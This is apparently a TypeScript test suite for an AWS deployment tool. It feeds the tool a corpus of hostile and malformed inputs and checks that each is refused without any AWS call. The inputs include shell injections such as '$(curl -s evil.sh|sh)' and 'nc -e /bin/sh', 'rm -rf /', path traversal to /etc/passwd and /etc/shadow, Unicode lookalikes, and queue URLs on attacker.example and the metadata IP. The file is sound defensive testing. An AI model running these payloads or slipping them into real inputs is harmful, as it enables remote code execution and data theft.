// A corpus of hostile and malformed inputs, one table, run through src/main.ts `run()` exactly as the
// bundle runs it, with every AWS client mocked: each must fail the step with a one-line error that
// names the input it is about, and not one AWS call may be sent, on any client.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AwsApi } from '../../src/aws/api.js';
import { createClients } from '../../src/aws/clients.js';
import { getQueueState } from '../../src/aws/sqs.js';
import { Input, type InputName } from '../../src/constants.js';
import { type DeploymentRecord } from '../../src/record.js';
import { type RawInputs } from '../support/context.js';
import { mainHarness } from '../support/main-harness.js';
import { documentedCount } from '../support/reliability-doc.js';
import { afterCanaryRecord } from '../support/records.js';

const DEP = 'dep-20261129t000000z-4242-1';
const QUEUE = 'file-processing-queue-production';
const QUEUE_URL = `https://sqs.ap-northeast-1.amazonaws.com/123456789012/${QUEUE}`;

/** A record as an earlier job hands it on, changed by `edit` (the attack). */
function record(edit: (r: DeploymentRecord & Record<string, unknown>) => void = () => undefined): string {
  const r = afterCanaryRecord({
    deploymentId: DEP,
    fleet: ['i-0123456789abcdef0'],
    reason: 'healthy',
    s3Uri: 's3://cis-deploy-artifacts/emergency-deploy/worker.py',
    command: 'cmd-1',
  });
  edit(r as DeploymentRecord & Record<string, unknown>);
  return JSON.stringify(r);
}

interface Case {
  /** what the attack is */
  what: string;
  /** the input the error must name */
  input: InputName;
  raw: RawInputs;
  /** a value that must not reach the error, the summary or the log */
  secret?: string;
}

/** A file in a fresh temporary directory, for record-file. */
function file(content: string): string {
  const path = join(mkdtempSync(join(tmpdir(), 'hostile-')), 'record.json');
  writeFileSync(path, content);
  return path;
}
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const FW = (s: string) => s.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const CYR_A = '\u0430';
const CYR_O = '\u043e';
const ZWJ = '\u200d';
const RLO = '\u202e';

/** A case whose raw value is the value of the input it must name (the usual case), in `also`'s mode. */
function bad(what: string, input: InputName, value: string, also: RawInputs = {}): Case {
  return { what, input, raw: { ...also, [input]: value } };
}

// Each case runs in `mode` preflight with queue-name and region set, unless it says otherwise.
export const CORPUS: Case[] = [
  // shell metacharacters
  bad('command after a semicolon', Input.ServiceName, 'file-processor; reboot'),
  bad('command substitution', Input.ServiceName, '$(curl -s evil.sh|sh)'),
  bad('substitution in a path segment', Input.WorkerDir, '/opt/file-processor/$(id)'),
  bad('backticks in a file name', Input.TargetFile, 'worker.py`id`'),
  bad('a pipe in a queue name', Input.QueueName, 'q|nc -e /bin/sh x 1'),
  bad('command after an instance id', Input.CanaryInstanceId, 'i-0123456789abcdef0;reboot'),
  bad('substitution in a filter name', Input.InstanceFilters, 'tag:$(reboot)=x'),
  bad('semicolon in a metric namespace', Input.MetricNamespace, 'CISFileSearch/Worker;rm -rf /'),
  bad('a space and semicolon in the metric name', Input.MetricName, 'MessageDeleteFailed; x'),
  bad('substitution in a metric dimension name', Input.MetricDimensions, 'InstanceId,$(reboot)'),
  bad('an ampersand in the DLQ name', Input.DlqName, 'dlq&&reboot'),
  bad('a semicolon in the bucket', Input.Bucket, 'cis-bucket;rm'),
  bad('substitution in an S3 key', Input.Artifact, 's3://cis-deploy-artifacts/key$(reboot)'),
  bad('substitution in the artifact prefix', Input.ArtifactPrefix, 'emergency-deploy/$(x)/'),
  bad('a semicolon in the deployment id', Input.DeploymentId, 'dep-1;reboot'),
  bad('a redirect in the dimension name', Input.CanaryMetricDimension, 'InstanceId>/etc/x'),
  {
    what: 'a semicolon in the Auto Scaling group',
    input: Input.AsgName,
    raw: {
      mode: 'rollout',
      strategy: 'asg',
      'asg-name': 'workers;reboot',
      'launch-template-name': 'lt-workers',
    },
  },
  {
    what: 'substitution in the launch template name',
    input: Input.LaunchTemplateName,
    raw: { mode: 'rollout', strategy: 'asg', 'asg-name': 'workers', 'launch-template-name': 'lt$(x)' },
  },
  bad('a control character in an error pattern', Input.ErrorPatterns, 'ERROR\u0007'),
  // newlines
  bad('a newline then a command', Input.ServiceName, 'file-processor\nreboot'),
  bad('a newline in the file name', Input.TargetFile, 'worker.py\nrm -rf /'),
  bad('a newline in the directory', Input.WorkerDir, '/opt/file-processor\n/etc'),
  {
    what: 'a newline in the queue URL',
    input: Input.QueueUrl,
    raw: { 'queue-name': '', 'queue-url': `${QUEUE_URL}\nx` },
  },
  bad('two regions on two lines', Input.Region, 'ap-northeast-1\nus-east-1'),
  bad('two numbers on two lines', Input.CanaryMinutes, '5\n0'),
  bad('a carriage return in the checkpoint', Input.Checkpoint, '10m\r1h'),
  // path traversal
  bad('parent directory in the worker dir', Input.WorkerDir, '/opt/../etc'),
  bad('trailing parent directory', Input.WorkerDir, '/opt/file-processor/..'),
  bad('a relative worker dir', Input.WorkerDir, 'opt/file-processor'),
  bad('traversal in the file name', Input.TargetFile, '../../etc/passwd'),
  {
    what: 'a workspace artifact outside the workspace',
    input: Input.Artifact,
    raw: { artifact: '../../etc/shadow', 'artifact-bucket': 'cis-deploy-artifacts' },
  },
  {
    what: 'an absolute workspace artifact',
    input: Input.Artifact,
    raw: { artifact: '/etc/passwd', 'artifact-bucket': 'cis-deploy-artifacts' },
  },
  bad('traversal in an S3 key', Input.Artifact, 's3://cis-deploy-artifacts/../secrets/key'),
  bad('traversal in the artifact prefix', Input.ArtifactPrefix, '../other/'),
  // unicode lookalikes
  bad('a fullwidth mode', Input.Mode, FW('preflight')),
  bad('a Cyrillic a in the region', Input.Region, `${CYR_A}p-northeast-1`),
  bad('a zero-width joiner in the service', Input.ServiceName, `file${ZWJ}processor`),
  bad('a right-to-left override in the file name', Input.TargetFile, `worker${RLO}yp.py`),
  bad('a Cyrillic o in the queue name', Input.QueueName, `file-processing-queue-producti${CYR_O}n`),
  bad('a Cyrillic o in the bucket', Input.Bucket, `cis-filesearch-storage-producti${CYR_O}n`),
  bad('a no-break space in a health pattern', Input.HealthPatterns, 'Successfully\u00a0processed'),
  bad('a fullwidth f in the instance id', Input.CanaryInstanceId, 'i-0123456789abcde\uff460'),
  bad('a fullwidth true', Input.DryRun, FW('true')),
  bad('a fullwidth strategy', Input.Strategy, FW('ssm')),
  bad('a Cyrillic a in the artifact bucket', Input.ArtifactBucket, `cis-deploy-${CYR_A}rtifacts`),
  // huge values
  bad('a twenty-digit duration', Input.CanaryMinutes, '99999999999999999999'),
  bad('a 10,000-character service name', Input.ServiceName, 'a'.repeat(10_000)),
  bad('21 health patterns', Input.HealthPatterns, Array.from({ length: 21 }, (_, i) => `p${i}`).join('\n')),
  // Perl regex syntax that GNU grep -E would run as something else (\d is a literal d there)
  bad('a Perl \\d in a health pattern', Input.HealthPatterns, 'Received \\d+ messages'),
  bad('a lookahead in an error pattern', Input.ErrorPatterns, 'ERROR(?!: retrying)'),
  bad('a 5,000-character error pattern', Input.ErrorPatterns, 'E'.repeat(5000)),
  bad(
    '26 instance filters',
    Input.InstanceFilters,
    Array.from({ length: 26 }, (_, i) => `tag:k${i}=v`).join('\n'),
  ),
  bad('a visibility timeout over 12 hours', Input.VisibilityTimeout, '43201'),
  bad('a batch of 5,001', Input.BatchSize, '5001'),
  bad('max-errors past any fleet', Input.MaxErrors, '5001'),
  bad('a 2,000-character worker dir', Input.WorkerDir, `/${'d/'.repeat(1000)}`),
  bad('a huge files-per-hour floor', Input.MinFilesPerHour, '100000001'),
  bad('a huge 24 h depth', Input.MaxDepth24h, '1e12'),
  bad('a lag over two weeks', Input.MaxLagSeconds, '1209601'),
  // negative and non-numeric durations
  bad('negative canary minutes', Input.CanaryMinutes, '-5'),
  bad('zero poll seconds', Input.PollSeconds, '0'),
  bad('negative pause', Input.PauseSeconds, '-1'),
  bad('a session shorter than STS allows', Input.CanarySessionSeconds, '899'),
  bad('a session with a unit', Input.RolloutSessionSeconds, '6h'),
  bad('a topic name instead of its ARN', Input.NotifyTopicArn, 'file-processing-client-notifications'),
  bad(
    'a topic ARN with a command after it',
    Input.NotifyTopicArn,
    'arn:aws:sns:ap-northeast-1:123456789012:notices;id',
  ),
  bad('a topic in another region', Input.NotifyTopicArn, 'arn:aws:sns:us-east-1:123456789012:notices'),
  bad('verify minutes in words', Input.VerifyMinutes, 'ten'),
  bad('a unit suffix', Input.SampleSeconds, '30s'),
  bad('a fraction', Input.CanaryMinutes, '1.5'),
  bad('NaN', Input.PollSeconds, 'NaN'),
  bad('Infinity', Input.CommandTimeoutSeconds, 'Infinity'),
  bad('hexadecimal', Input.VerifyMinutes, '0x10'),
  bad('a leading plus', Input.DrainedThreshold, '+10'),
  bad('a negative tolerance', Input.DlqTolerance, '-3'),
  bad('a percent over 100', Input.MinDepthReductionPercent, '150'),
  bad('a zero receive ratio', Input.MaxReceiveRatio, '0'),
  bad('a healthy percentage of 101', Input.MinHealthyPercentage, '101'),
  bad('decreasing refresh checkpoints', Input.RefreshCheckpoints, '50,20'),
  {
    // API_RefreshPreferences: the refresh would end Successful at 50% with half the group unfixed.
    what: 'refresh checkpoints that stop short of 100',
    input: Input.RefreshCheckpoints,
    raw: { 'refresh-checkpoints': '20,50' },
  },
  // bad regions
  bad('a city, not a region', Input.Region, 'tokyo'),
  bad('an upper-case region', Input.Region, 'AP-NORTHEAST-1'),
  bad('a region that is a host name', Input.Region, 'ap-northeast-1.evil.example'),
  bad('a region with traversal', Input.Region, '../us-east-1'),
  // malformed s3:// URIs
  bad('s3:// alone', Input.Artifact, 's3://'),
  bad('a bucket with no key', Input.Artifact, 's3://cis-deploy-artifacts'),
  bad('one slash', Input.Artifact, 's3:/cis-deploy-artifacts/key'),
  bad('an invalid bucket name', Input.Artifact, 's3://Bad_Bucket/key'),
  bad('a space in the key', Input.Artifact, 's3://cis-deploy-artifacts/key with space'),
  bad('an empty key segment', Input.Artifact, 's3://cis-deploy-artifacts//worker.py'),
  bad('a key that is a folder', Input.Artifact, 's3://cis-deploy-artifacts/fixes/'),
  bad('an xn-- bucket', Input.Artifact, 's3://xn--bucket/key'),
  bad('a checksum that is not SHA-256', Input.ArtifactSha256, 'zz'.repeat(32)),
  // bad filter syntax
  bad('a filter with no value', Input.InstanceFilters, 'tag:Name'),
  bad('a filter with no name', Input.InstanceFilters, '=cis-file-processor'),
  bad('an empty filter value', Input.InstanceFilters, 'tag:Name='),
  bad('a filter on state', Input.InstanceFilters, 'instance-state-name=stopped'),
  bad('the same filter twice', Input.InstanceFilters, 'tag:Name=a\ntag:Name=b'),
  bad('no filter at all (every instance)', Input.InstanceFilters, 'none'),
  bad('an empty value in a list', Input.InstanceFilters, 'tag:Name=a,,b'),
  // malformed, oversized and foreign records
  bad('record: not JSON', Input.Record, '{not json'),
  bad('record: a JSON array', Input.Record, '[]'),
  bad('record: a JSON string', Input.Record, '"emergency-worker-deploy"'),
  bad('record: another kind', Input.Record, '{"kind":"terraform-state","version":1}'),
  bad(
    'record: an unknown version',
    Input.Record,
    record((r) => Object.assign(r, { version: 2 })),
  ),
  bad(
    'record: the version as a string',
    Input.Record,
    record((r) => Object.assign(r, { version: '1' })),
  ),
  bad(
    'record: over 1 MB',
    Input.Record,
    record((r) => Object.assign(r.extra, { padding: 'x'.repeat(1_000_001) })),
  ),
  {
    what: 'record: another deployment',
    input: Input.Record,
    raw: { record: record(), 'deployment-id': 'dep-someone-else-1' },
  },
  { what: 'record: another region', input: Input.Record, raw: { record: record(), region: 'us-east-1' } },
  bad(
    'record: a shell command as an instance id',
    Input.Record,
    record((r) => (r.instances['i-1;reboot'] = { p: 'r', b: 1, s: 'sent', c: -1 })),
  ),
  bad(
    'record: substitution in the fleet',
    Input.Record,
    record((r) => r.fleet?.instanceIds.push('$(reboot)')),
  ),
  bad(
    'record: traversal as the deployment id',
    Input.Record,
    record((r) => (r.deploymentId = '../../etc')),
  ),
  bad(
    'record: a shell command as the service, for rollback',
    Input.Record,
    record((r) => (r.target.serviceName = 'x; reboot')),
    { mode: 'rollback' },
  ),
  bad(
    'record: a backup path outside the worker dir, for rollback',
    Input.Record,
    record((r) => (r.target.backupPath = '/etc/shadow')),
    { mode: 'rollback' },
  ),
  {
    what: 'record: a canary id that is a command, for an asg rollout',
    input: Input.Record,
    raw: {
      mode: 'rollout',
      strategy: 'asg',
      'asg-name': 'workers',
      'launch-template-name': 'lt-workers',
      record: record((r) => r.canary && (r.canary.instanceId = 'i-0; reboot')),
    },
  },
  bad(
    'record: a checksum that is a command, for rollout',
    Input.Record,
    record((r) => r.artifact && (r.artifact.sha256 = "a'; reboot; '")),
    { mode: 'rollout' },
  ),
  bad(
    'record: an artifact URI with substitution, for rollout',
    Input.Record,
    record((r) => r.artifact && (r.artifact.s3Uri = 's3://b/$(reboot)')),
    { mode: 'rollout' },
  ),
  bad(
    'record: a queue URL that is not one, for rollback',
    Input.Record,
    record((r) => r.queue && (r.queue.url = 'file:///etc/passwd')),
    { mode: 'rollback' },
  ),
  bad(
    'record: a launch template id that is not one, for rollback',
    Input.Record,
    record(
      (r) => (r.settings.launchTemplate = { id: 'lt-1 --x', name: 'lt', previousDefault: 1, newVersion: 2 }),
    ),
    { mode: 'rollback' },
  ),
  bad(
    'record: a refresh of another group name that is not one, for rollback',
    Input.Record,
    record((r) => (r.settings.refresh = { id: 'r-1', asgName: 'a b;c', status: 'InProgress' })),
    { mode: 'rollback' },
  ),
  // record-file: any path the runner can read
  bad('record-file: a file that does not exist', Input.RecordFile, '/nonexistent/record.json'),
  bad('record-file: a newline in the path', Input.RecordFile, '/tmp/record.json\n/etc/passwd'),
  {
    what: 'record-file and record both',
    input: Input.RecordFile,
    raw: { record: record(), 'record-file': file(record()) },
  },
  {
    what: 'record-file: a credentials file, whose text must not be quoted back',
    input: Input.RecordFile,
    raw: { 'record-file': file(`${SECRET}\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n`) },
    secret: SECRET.slice(0, 8),
  },
  bad(
    'record-file: a forged record, for rollback',
    Input.RecordFile,
    file(record((r) => (r.target.workerDir = '/etc'))),
    { mode: 'rollback' },
  ),
  // the record's target against the inputs, and inputs each mode requires
  {
    what: 'canary without the record',
    input: Input.Record,
    raw: { mode: 'canary', artifact: 's3://cis-deploy-artifacts/k', 'artifact-sha256': 'a'.repeat(64) },
  },
  {
    what: 'canary for another service than the record',
    input: Input.Record,
    raw: { mode: 'canary', record: record(), 'service-name': 'other-service' },
  },
  { what: 'rollout without the record', input: Input.Record, raw: { mode: 'rollout' } },
  {
    what: 'rollout into another worker dir',
    input: Input.WorkerDir,
    raw: { mode: 'rollout', record: record(), 'worker-dir': '/opt/other' },
  },
  { what: 'rollback with neither record nor id', input: Input.DeploymentId, raw: { mode: 'rollback' } },
  {
    what: 'a workspace artifact with nowhere to upload it',
    input: Input.ArtifactBucket,
    raw: { artifact: 'build/worker.py' },
  },
  bad('both queue name and URL', Input.QueueUrl, QUEUE_URL),
  {
    what: 'asg without a group',
    input: Input.AsgName,
    raw: { mode: 'rollout', strategy: 'asg', 'launch-template-name': 'lt-workers' },
  },
  bad('no mode', Input.Mode, ''),
  bad('an unknown checkpoint', Input.Checkpoint, '2h'),
  bad('yes for a boolean', Input.SsmCheck, 'yes'),
  bad('1 for a boolean', Input.AllowInconclusive, '1'),
  bad('on for a boolean', Input.ImageNoReboot, 'on'),
  bad('no for a boolean', Input.CheckServices, 'no'),
  bad('preflight with no queue at all', Input.QueueName, ''),
  // redrive: the move task is not undone by a later step, so every bad value stops it before AWS
  bad('redrive rate 0', Input.RedriveRate, '0', { mode: 'redrive' }),
  bad('redrive rate over the 500 SQS allows', Input.RedriveRate, '501', { mode: 'redrive' }),
  bad('redrive rate as a fraction', Input.RedriveRate, '2.5', { mode: 'redrive' }),
  bad('redrive sample 0', Input.RedriveSample, '0', { mode: 'redrive' }),
  bad('redrive sample over 1,000', Input.RedriveSample, '1001', { mode: 'redrive' }),
  bad('redrive force as yes', Input.RedriveForce, 'yes', { mode: 'redrive' }),
  {
    what: 'redrive from a DLQ that is not the queue’s',
    input: Input.DlqName,
    raw: {
      mode: 'redrive',
      'dlq-name': 'someone-elses-dlq',
      record: record((r) => Object.assign(r.queue!, { dlqName: 'cis-worker-failures' })),
    },
  },
  {
    what: 'redrive with the record of another deployment',
    input: Input.Record,
    raw: { mode: 'redrive', record: record(), 'deployment-id': 'dep-someone-else-2' },
  },
  bad('redrive with no queue at all', Input.QueueName, '', { mode: 'redrive' }),
];

const BASE: RawInputs = { mode: 'preflight', region: 'ap-northeast-1', 'queue-name': QUEUE };

describe('hostile inputs', () => {
  it('the corpus has at least 40 cases, covers every input, and RELIABILITY.md states its size', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40);
    const named = new Set(CORPUS.map((c) => c.input));
    expect(Object.values(Input).filter((name) => !named.has(name))).toEqual([]);
    expect(documentedCount('Hostile inputs tried')).toBe(CORPUS.length);
  });

  it.each(CORPUS.map((c) => [c.what, c] as const))(
    '%s: refused, naming the input, with no AWS call',
    async (_, c) => {
      const h = mainHarness({ ...BASE, ...c.raw });
      const outcome = await h.go();
      expect(outcome).toBeUndefined();
      expect(h.failures).toHaveLength(1);
      const message = h.failures[0];
      // Clear: one line, short, naming the input (values are quoted by the message, never raw).
      expect(message).toMatch(new RegExp(`^Input '${c.input}' `));
      // No control, format or line-separator character: a raw RTL override or zero-width joiner
      // would disguise the log line.
      expect([...message].filter((ch) => /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(ch))).toEqual([]);
      expect(message.length).toBeLessThan(600);
      expect(h.calls()).toEqual([]);
      for (const stub of Object.values(h.mocks)) expect(stub.calls()).toHaveLength(0);
      expect(h.report.outputs.verdict).toBe('fail');
      expect(h.report.outputs.record).toBeUndefined();
      expect(h.summaries[0]).toContain('Deployment step failed');
      expect(h.summaries[0]).not.toMatch(/<(?!\/?(h\d|sub)\b)/);
      if (c.secret) {
        expect(message).not.toContain(c.secret);
        expect(h.summaries.join('\n')).not.toContain(c.secret);
        expect(h.report.lines.join('\n')).not.toContain(c.secret);
      }
    },
  );
});

describe('a queue URL on another host', () => {
  // Signing needs credentials; these are fake and nothing is sent.
  const saved = { id: process.env.AWS_ACCESS_KEY_ID, secret: process.env.AWS_SECRET_ACCESS_KEY };
  beforeAll(() => {
    process.env.AWS_ACCESS_KEY_ID = 'AKIAEXAMPLENOTREAL00';
    process.env.AWS_SECRET_ACCESS_KEY = 'not-a-real-secret';
  });
  afterAll(() => {
    for (const [k, v] of [
      ['AWS_ACCESS_KEY_ID', saved.id],
      ['AWS_SECRET_ACCESS_KEY', saved.secret],
    ] as const) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  // The SQS client would by default send each request to the host of the QueueUrl it carries; a
  // forged record (or a mistyped queue-url) must not get signed requests sent to its host.
  it.each([
    'https://attacker.example/123456789012/file-processing-queue-production',
    'http://169.254.169.254/123456789012/file-processing-queue-production',
  ])('%s: requests still go to the region’s SQS endpoint', async (url) => {
    const clients = createClients('ap-northeast-1', 'test');
    const hosts: string[] = [];
    clients.sqs.middlewareStack.add(
      () => async (args) => {
        hosts.push((args.request as { hostname: string }).hostname);
        throw new Error('stopped before sending');
      },
      { step: 'build', name: 'captureHost' },
    );
    const api = new AwsApi(async () => undefined, { attempts: 1, baseMs: 1, capMs: 1 });
    await expect(getQueueState(api, clients, url)).rejects.toThrow('stopped before sending');
    expect(hosts).toEqual(['sqs.ap-northeast-1.amazonaws.com']);
  });
});
